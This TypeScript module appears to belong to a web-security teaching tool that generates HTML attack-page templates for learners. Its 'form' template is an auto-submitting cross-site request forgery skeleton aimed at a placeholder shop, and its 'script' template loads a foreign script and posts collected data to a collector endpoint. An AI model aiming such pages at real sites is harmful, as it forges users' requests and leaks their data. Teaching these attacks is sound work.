import { directionOf } from '#contract/direction.ts'
import type { PageContext } from './page-context.ts'

export const TEMPLATES = ['empty', 'form', 'script'] as const
export type Template = (typeof TEMPLATES)[number]

export function isTemplate(text: string | undefined): text is Template {
  return TEMPLATES.some((template) => template === text)
}

/** Templates of pages. Addresses and fields are left to the learner. */
export function renderTemplate({ say, tag }: PageContext, template: Template): string {
  const title = say(`template.${template}`)
  return `<!doctype html>
<html lang="${tag}" dir="${directionOf(tag)}">
<head>
<meta charset="utf-8">
<title>${title}</title>
</head>
<body>
${BODIES[template](say)}
</body>
</html>
`
}

const BODIES: Record<Template, (say: PageContext['say']) => string> = {
  empty: (say) => `<h1>${say('template.hello')}</h1>`,
  form: (say) => `<!-- ${say('template.form.comment')} -->
<form id="bait" method="post" action="https://shop.example/where/to">
  <input name="field" value="value">
</form>
<script>
  document.getElementById('bait').submit()
</script>`,
  script: (say) => `<!-- ${say('template.script.comment')} -->
<script>
  function tell(data) {
    fetch('../in/told', { method: 'POST', mode: 'no-cors', body: JSON.stringify(data) })
  }
</script>
<script src="https://shop.example/some/script.js"></script>`,
}
